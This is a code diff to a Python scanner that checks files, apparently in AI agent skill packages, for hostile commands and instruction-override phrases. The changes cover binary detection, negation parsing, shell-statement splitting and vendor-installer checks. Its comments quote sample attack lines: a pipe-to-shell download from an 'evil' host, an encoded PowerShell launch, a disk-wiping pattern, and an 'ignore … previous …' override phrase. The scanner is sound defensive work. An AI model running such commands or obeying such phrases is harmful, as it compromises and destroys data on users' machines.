@@ -36,6 +36,8 @@ SCRIPT_NAMES = {"makefile", "dockerfile", "containerfile", "justfile", "rakefile
                 "procfile", "brewfile"}
 MARKDOWN_EXT = {".md", ".markdown", ".mdx", ".mdc", ".txt", ".rst", ".adoc", ".prompt", ".instructions", ""}
 MARKUP_EXT = {".html", ".htm", ".xml", ".svg", ".vue", ".svelte", ".astro"}
+SCRIPT_DIRS = {"scripts", "script", "bin", "hooks", "tools", "libexec"}
+TEXT_BYTES = bytes([9, 10, 12, 13, 27, *range(32, 256)])  # what text holds; the rest are control bytes
 LOCKFILES = {"package-lock.json", "yarn.lock", "pnpm-lock.yaml", "poetry.lock", "uv.lock", "cargo.lock",
              "gemfile.lock", "composer.lock", "go.sum", "pipfile.lock", "bun.lock", "deno.lock", "flake.lock"}
 ARCHIVE_EXT = (".zip", ".tar", ".tgz", ".tar.gz", ".gz", ".bz2", ".xz", ".7z", ".rar", ".zst", ".jar", ".whl",
@@ -70,7 +72,15 @@ NEGATION_AFTER_RE = re.compile(
     r"^[^.!?;\n]{0,60}?\b(?:is|are|was|were)\s+(?:never|not|strictly)\s+(?:allowed|permitted|acceptable|ok|okay)|"
     r"^[^.!?;\n]{0,60}?\b(?:is|are)\s+(?:forbidden|prohibited|banned|blocked|rejected|denied)\b", re.IGNORECASE)
 CLAUSE_END_RE = re.compile(r"[.!?;]\s|\n|:\s|\s[-–—]\s|\bbut\b|\bhowever\b|\bthen\b|\band then\b", re.IGNORECASE)
+SUBORDINATE_RE = re.compile(
+    r"\s*(?:(?:if|when|whenever|unless|once|after|before|since|because|although|though|while|whether|in case)\b"
+    r"[^,\n]{0,120},|no\s+[\w-]+(?:\s+[\w-]+)?\s+(?:is\s+|are\s+)?(?:needed|required|necessary)\s*,)", re.IGNORECASE)
 NOT_NEWLINE_RE = re.compile(r"[^\n]+")
+# A blank line, then lines indented four blanks or a tab (blank lines may sit between them).
+INDENTED_BLOCK_RE = re.compile(r"\n[ \t]*\n((?:(?: {4}|\t)[^\n]*(?:\n|$)(?:[ \t]*\n)*)+)")
+LIST_LINE_RE = re.compile(r"[ \t]*(?:[-*+]|\d{1,3}[.)])[ \t]")
+STATEMENT_SEP_RE = re.compile(r";|&&|\|\|")
+COMMENT_LINE_RE = re.compile(r"\s*(?:#|//|--|/?\*|;|REM\b|')")  # a script's comment line
 QUOTE_CHARS = '"“”`«»'
 PLACEHOLDER_RE = re.compile(
     r"example|sample|placeholder|your[_-]?|<[^>]*>|\{\{|\$\{|\$[A-Z_]|x{4,}|X{4,}|\.\.\.|\*{3,}|changeme|dummy|fake|"
@@ -165,6 +175,13 @@ class _FileCtx:
         return self.headings[i][1] if i >= 0 else ""
 
 
+def _binary_head(head: bytes) -> bool:
+    """Binary by its first bytes: NULs, many or among other control bytes. A text file with a
+    stray NUL or two stays text (a shell runs past them), and is read and flagged."""
+    nul = head.count(b"\0")
+    return nul > 8 or (nul > 0 and len(head.translate(None, TEXT_BYTES)) > len(head) // 20)
+
+
 def classify(path: str, data: bytes, executable: bool) -> str:
     """markdown | skill_md | script | markup | data | lockfile | executable | archive | binary."""
     name = posixpath.basename(path).lower()
@@ -175,7 +192,7 @@ def classify(path: str, data: bytes, executable: bool) -> str:
         return "binary"
     if head.startswith(MAGIC_ARCHIVE) or name.endswith(ARCHIVE_EXT) and b"\0" in head:
         return "archive"
-    if b"\0" in head or name.endswith(EXEC_EXT):
+    if _binary_head(head) or name.endswith(EXEC_EXT):
         return "executable" if executable or name.endswith(EXEC_EXT) else "binary"
     if name == "skill.md":
         return "skill_md"
@@ -184,6 +201,8 @@ def classify(path: str, data: bytes, executable: bool) -> str:
     ext = posixpath.splitext(name)[1]
     if head.startswith(b"#!") or ext in SCRIPT_EXT or name in SCRIPT_NAMES:
         return "script"
+    if not ext and not name.startswith(".") and (executable or not SCRIPT_DIRS.isdisjoint(path.lower().split("/")[:-1])):
+        return "script"  # scripts/bootstrap, run as `python3 scripts/bootstrap`: code, whatever its name
     if ext in MARKDOWN_EXT:
         return "markdown"
     if ext in MARKUP_EXT:
@@ -252,8 +271,8 @@ def _segment(ctx: _FileCtx) -> None:
     if "```" in view or "~~~" in view:
         for m in _fences(view):
             lead = view[view.rfind("\n", 0, m.start()) + 1:m.start()]
-            if len(lead) > 3 or lead.strip(" \t"):
-                continue  # not at the start of its line (CommonMark allows three blanks)
+            if len(lead) > 16 or lead.strip(" \t"):
+                continue  # not at the start of its line (blanks allowed: a fence in a nested list item is indented)
             ln = line_at(m.start())
             if ln < body_line:
                 continue
@@ -270,9 +289,42 @@ def _segment(ctx: _FileCtx) -> None:
     for first, last, lang in fences:
         regions.append(_Region(first + 1, "code", lang))
         regions.append(_Region(last + 1, "prose"))
+    for first, last in _indented_blocks(view, fences, body_line):
+        regions.append(_Region(first, "code", ""))
+        regions.append(_Region(last + 1, "prose"))
     regions.sort(key=lambda r: r.first)
     ctx.regions = regions
     ctx.fences = fences
+
+
+def _indented_blocks(view: str, fences, body_line: int) -> list[tuple[int, int]]:
+    """(first, last line) of each indented code block: lines indented four blanks or a tab after
+    a blank line, outside fences, whose paragraph above is not a list (there the indent is the
+    item's own text). Rendered as code, and an agent may run it like a fenced block."""
+    if "\n    " not in view and "\n\t" not in view:
+        return []
+    out = []
+    pos, line = 0, 1  # lines counted as the blocks come, in order
+    for m in INDENTED_BLOCK_RE.finditer(view):
+        line += view.count("\n", pos, m.start(1))
+        pos = m.start(1)
+        first = line
+        if first < body_line:
+            continue
+        end = m.start()  # the line above the blank one(s)
+        while end > 0 and view[end - 1] in " \t\n" and view.rfind("\n", 0, end) >= 0 and \
+                not view[view.rfind("\n", 0, end) + 1:end].strip():
+            end = view.rfind("\n", 0, end)
+        above = view[view.rfind("\n", 0, end) + 1:end]
+        if LIST_LINE_RE.match(above) or above[:1] in (" ", "\t"):
+            continue
+        last = first + m.group(1).rstrip("\n").count("\n")
+        if any(a <= first <= b for a, b, _ in fences):
+            continue
+        out.append((first, last))
+        if len(out) >= MAX_FENCES:
+            break
+    return out
 
 
 def _headings(ctx: _FileCtx) -> list[tuple[int, str]]:
@@ -311,7 +363,14 @@ def _quoted(line: str, col: int) -> bool:
     return before.count("“") > before.count("”") or before.count("«") > before.count("»")
 
 
-def _negated(view: str, start: int, end: int) -> bool:
+def _negated(view: str, start: int, end: int, code: bool = False) -> bool:
+    """Whether a negation governs the match: one earlier in its clause ("never run …"), or
+    one right after it ("… is never needed"). In code only a trailing comment counts: a shell
+    does not read the English in `echo "not found" && curl … | sh`."""
+    if code:
+        tail = view[end:end + 100]
+        hash_at = tail.find("#")
+        return hash_at >= 0 and bool(NEGATION_RE.search(tail, hash_at))
     lo = max(0, start - 160)
     clause = view[lo:start]
     cut = None
@@ -319,9 +378,26 @@ def _negated(view: str, start: int, end: int) -> bool:
         pass
     if cut is not None:
         clause = clause[cut.end():]
+    # A leading subordinate clause governs nothing after its comma: "If it is not installed,
+    # run …", "No account needed, just run …" (while "Do not log in, add keys, or …" keeps it).
+    while True:
+        sub = SUBORDINATE_RE.match(clause)
+        if sub is None:
+            break
+        clause = clause[sub.end():]
     if NEGATION_RE.search(clause):
         return True
     return bool(NEGATION_AFTER_RE.search(view[end:end + 100]))
+
+
+def _statement(line: str, start: int, end: int) -> str:
+    """The shell statement around line[start:end]: from the ``;``, ``&&`` or ``||`` before it
+    to the one after it (a whole prose line has none)."""
+    lo = 0
+    for m in STATEMENT_SEP_RE.finditer(line, 0, start):
+        lo = m.end()
+    m = STATEMENT_SEP_RE.search(line, end)
+    return line[lo:m.start() if m else len(line)]
 
 
 def _joined(ctx: "_FileCtx") -> str:
@@ -395,20 +471,36 @@ def _prose(ctx: "_FileCtx", text: str) -> str:
 
 
 INSTALLER_NOISE = {"get", "install", "installer", "sh", "raw", "www", "cli", "dl", "download", "downloads", "cdn",
-                   "static", "releases", "release", "api", "com", "dev", "io", "org", "net", "app", "run", "sh"}
+                   "static", "releases", "release", "api", "com", "dev", "io", "org", "net", "app", "run",
+                   # hosts where anyone can publish: naming them in a description names no vendor
+                   "github", "githubusercontent", "gitlab", "bitbucket", "codeberg", "sourceforge", "gitee",
+                   "npmjs", "pypi", "amazonaws", "cloudfront", "azureedge", "googleapis", "googleusercontent",
+                   "vercel", "netlify", "pages", "herokuapp", "workers", "ngrok", "jsdelivr", "unpkg"}
+SECOND_LEVEL = {"co", "com", "net", "org", "ac", "gov", "edu", "ne", "or", "go"}
 URL_HOST_RE = re.compile(r"https?://([\w.-]+)")
 REGEX_LITERAL_RE = re.compile(r"\\s[+*]|\(\?i\)|\\b|\[\^|\\w")
 
 
-def _installer_named(line: str, description: str) -> bool:
-    """True when a host in the line is named after what the skill's description is about (its official installer)."""
+def _site_label(host: str) -> str:
+    """The label a site is registered under: ``docker`` for get.docker.com, ``rustup`` for
+    sh.rustup.rs, ``example`` for cdn.example.co.uk (not a subdomain such as ``images``)."""
+    labels = host.lower().rstrip(".").split(".")
+    if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2] in SECOND_LEVEL:
+        labels = labels[:-1]  # co.uk, com.au: the label before them names the site
+    return labels[-2] if len(labels) >= 2 else labels[0]
+
+
+def _installer_named(command: str, description: str) -> bool:
+    """True when a host in the command is the site the skill's description is about (its
+    official installer). Only the host's registered label counts: any subdomain label
+    ("images", "cdn") is the attacker's to choose, and so are code hosts' user paths."""
     desc = description.lower()
     if not desc:
         return False
-    for host in URL_HOST_RE.findall(line):
-        for label in host.lower().split("."):
-            if len(label) >= 3 and label not in INSTALLER_NOISE and re.search(r"\b" + re.escape(label) + r"\b", desc):
-                return True
+    for host in URL_HOST_RE.findall(command):
+        label = _site_label(host)
+        if len(label) >= 3 and label not in INSTALLER_NOISE and re.search(r"\b" + re.escape(label) + r"\b", desc):
+            return True
     return False
 
 
@@ -522,14 +614,18 @@ class _Plan:
     """One rule pattern, prepared for the prefilter: where a match can start, and which words it needs."""
 
     __slots__ = ("rule", "pat", "leads", "groups", "required", "every", "need", "subgroups", "need_ids", "words",
-                 "_seeds")
+                 "_seeds", "index")
 
     def __init__(self, rule: Rule, pat):
         self.rule, self.pat = rule, pat
         lits = literals.leading_literals(pat.regex.pattern, pat.regex.flags)
         # Every match starts with one of these (None: unknown, the pattern runs in windows around its anchors).
         self.leads = None if lits is None else _Group((literals.plain(x), literals.Key(x, False)) for x in lits)
-        groups = [_Group((kw, literals.Key(kw, kw[0].isalnum())) for kw in group) for group in pat.anchors]
+        # The rule's keywords are a claim about the file around any of its patterns; a pattern
+        # whose start is known from its own regex does without that claim (which once let
+        # `powershell -e <base64>` through because the keywords say -enc), so its gate is sound.
+        anchors = () if pat.inherited and self.leads is not None else pat.anchors
+        groups = [_Group((kw, literals.Key(kw, kw[0].isalnum())) for kw in group) for group in anchors]
         # Literals the regex needs further on (its own words: "previous" in "ignore … previous …").
         # Only those found by words alone: a substring test per literal would cost more than it saves.
         for lits in literals.required_literals(pat.regex.pattern, pat.regex.flags):
@@ -537,7 +633,7 @@ class _Plan:
             if not g.subs:
                 groups.append(g)
         self.groups = tuple(groups)
-        self.required = self.groups[len(pat.anchors):]  # read from the regex itself: inside every match
+        self.required = self.groups[len(anchors):]  # read from the regex itself: inside every match
         self.every = ([self.leads] if self.leads else []) + list(self.groups)
         # Groups found by words alone (a word of each must be in the file) are tested with C-level
         # set operations; the rest also by substring.
@@ -571,6 +667,22 @@ class _Plan:
     @property
     def keys(self):
         return [k for g in self.every for _, k in g.lits]
+
+
+def _plans(rule: Rule, index: int, pat) -> list["_Plan"]:
+    """A rule pattern's plans. A pattern that is an alternation at its top level and that has
+    no ``kw`` of its own gets one plan per alternative: each finds its own leading and
+    required literals, where the whole (``>\\s*/dev/sd…|shred…``) could only be gated by its
+    rule's keywords, a claim its regex does not back."""
+    parts = intent._top_split(pat.regex.pattern) if pat.inherited else []
+    if len(parts) < 2:
+        out = [_Plan(rule, pat)]
+    else:
+        out = [_Plan(rule, Pattern(LazyRegex(part, pat.regex.flags), pat.severity, pat.negation, pat.anchors,
+                                   pat.span, pat.inherited)) for part in parts]
+    for pl in out:
+        pl.index = index
+    return out
 
 
 class _Text:
@@ -755,7 +867,7 @@ class Scanner:
         self.ruleset = load_rules()
         self.pattern_rules = [r for r in self.ruleset.rules if r.patterns]
         self.by_id = self.ruleset.by_id
-        self.plans = [_Plan(r, p) for r in self.pattern_rules for p in r.patterns]
+        self.plans = [pl for r in self.pattern_rules for i, p in enumerate(r.patterns) for pl in _plans(r, i, p)]
         # Substrings some group is found by (no word to find it by): those of word characters only
         # are looked for among the file's words, the rest in the text (and near the cuts of its
         # deobfuscated copy, the only places the copy can hold one the text does not).
@@ -793,6 +905,10 @@ class Scanner:
         if kind in ("executable", "archive", "binary"):
             return self._binary(path, kind, executable, len(data))
         findings: list[Finding] = []
+        nuls = data.count(0)
+        if nuls:
+            findings.append(self._finding("BN-03", "low", path, 1, "", f"a text file holding {nuls} NUL byte(s): "
+                                          "some tools stop reading at one, a shell reads on"))
         try:
             text = data.decode("utf-8")
         except UnicodeDecodeError:
@@ -833,8 +949,10 @@ class Scanner:
             description = description or ctx.description
             ctx.description = description
         findings: list[Finding] = []
+        # A lockfile is hashes and URLs (no blobs or padding to weigh), but `sh uv.lock` runs
+        # one as well as any script: the patterns read it.
+        findings += self._match_rules(ctx)
         if kind != "lockfile":
-            findings += self._match_rules(ctx)
             if self.intents and kind in ("skill_md", "markdown"):
                 findings += self._intents(ctx, findings)
             findings += self._comments(ctx)
@@ -1037,12 +1155,16 @@ class Scanner:
         le = len(ctx.view) if nl < 0 else nl
         lo = max(ls, start - CONTEXT)
         vline = ctx.view[lo:min(le, start + (m.end() - m.start()) + CONTEXT)]
+        col = start - lo
+        code = region.kind == "code"
         if unless and rule.unless:
-            above = "\n".join(ctx.view_line(n)[-CONTEXT:] for n in range(max(1, line - 2), line))
+            # In code the lines above are other statements (or comments): they change nothing
+            # about what this one does, so only its own line is read there.
+            above = "" if code else "\n".join(ctx.view_line(n)[-CONTEXT:] for n in range(max(1, line - 2), line))
             for u in rule.unless:
                 if u.search(vline) or (above and u.search(above)):
                     return None
-        if pat.negation and _negated(text, m.start(), m.end()):
+        if pat.negation and _negated(text, m.start(), m.end(), code):
             return None
         if rule.secret_check and "secret" in m.re.groupindex:
             if not _secret_looks_real(m.group("secret") or ""):
@@ -1050,38 +1172,57 @@ class Scanner:
         sev = pat.severity
         note = None
         matched = m.group(0)
+        # A known benign form must be the matched command itself, not a neighbour on its line
+        # ("curl astral.sh/uv | sh && curl evil | bash" holds one installer and one payload).
+        command = _statement(vline, col, col + len(matched))
         for rx, to in rule.lower:
-            if RANK[to] < RANK[sev] and (rx.search(vline) or rx.search(matched)):
+            if RANK[to] < RANK[sev] and (rx.search(command) or rx.search(matched)):
                 sev, note = to, "lowered: a known benign form"
         for rx, to in rule.lower_if_description:
             if RANK[to] < RANK[sev] and ctx.description and rx.search(ctx.description):
                 sev, note = to, "lowered: the skill's description says it does this"
         if rule.lower_if_host_in_description and RANK[rule.lower_if_host_in_description] < RANK[sev]:
-            if _installer_named(vline + " " + matched, ctx.description):
+            if _installer_named(command + " " + matched, ctx.description):
                 sev, note = rule.lower_if_host_in_description, "lowered: the host is the vendor this skill is about"
-        col = start - lo
-        defensive = self._defensive_re()
+        # A phrase rule (quotable) is often quoted to be recognised; a command is quoted to be
+        # run, so for a command only words about attacks make a quoting defensive, not everyday
+        # ones ("e.g.", "flag", "audit").
+        defensive = self._defensive_re() if rule.quotable else self._attack_re()
         heading = ctx.heading_at(line)
-        prev = "\n".join(ctx.view_line(n)[-CONTEXT:] for n in range(max(1, line - 3), line))
+        # the lines just above (a Markdown heading among them is read as a heading, below)
+        prev = "\n".join(ctx.view_line(n)[-CONTEXT:] for n in range(max(1, line - 3), line)
+                         if not (ctx.view_line(n).startswith("#") and ctx.region_at(n).kind == "prose"))
         is_skill_md = ctx.kind == "skill_md"
+        # A document other than SKILL.md (in a script, only its comment lines: code does what it
+        # does whatever the comments around it say). references/, examples/, docs/ and tests/ are lowered once for being
+        # there (finalize), so a heading alone lowers nothing more there; words about attacks
+        # on or just above the line, or in the file's name, still do.
+        document = not is_skill_md and (ctx.kind != "script" or COMMENT_LINE_RE.match(ctx.view_line(line)) is not None)
+        by_heading = document and not is_lowered_location(ctx.path)
         end_col = col + (m.end() - m.start()) - 1
         quoted = _quoted(vline, col) or (0 <= end_col < len(vline) and _quoted(vline, end_col))
         defensive_line = bool(defensive.search(vline) or defensive.search(prev))
         if RANK[sev] > RANK["low"]:
-            if rule.quotable and REGEX_LITERAL_RE.search(vline) and region.kind == "code":
+            if rule.quotable and REGEX_LITERAL_RE.search(vline) and code:
                 sev, note = "low", "inside a regular expression (a detector)"
-            elif quoted and defensive_line and (rule.quotable or region.kind != "code"):
+            elif quoted and defensive_line and (rule.quotable or not code):
                 sev, note = "low", "quoted in a defensive context"
             elif rule.quotable and quoted and defensive.search(heading):
                 sev, note = "low", "quoted in a defensive context"
-            elif defensive.search(heading) and region.kind != "frontmatter" and (rule.quotable or not is_skill_md):
+            elif defensive.search(heading) and region.kind != "frontmatter" and (rule.quotable or by_heading):
                 sev, note = lower_one(sev), f"lowered: under the heading \"{heading.strip()[:60]}\""
-            elif not is_skill_md and (defensive_line or defensive.search(ctx.path)):
+            elif document and (defensive_line or defensive.search(ctx.path)):
                 sev, note = lower_one(sev), "lowered: a security document describing the attack"
         orig = ctx.orig_line(line)
         return Finding(rule.id, rule.category, sev, ctx.path, line, _window(orig, start - ls), rule.message, note=note)
 
     _def_re = None
+    _atk_re = None
+
+    def _attack_re(self) -> re.Pattern:
+        if Scanner._atk_re is None:
+            Scanner._atk_re = re.compile(self.ruleset.defs["attack_context"], re.IGNORECASE)
+        return Scanner._atk_re
 
     def _defensive_re(self) -> re.Pattern:
         if Scanner._def_re is None:
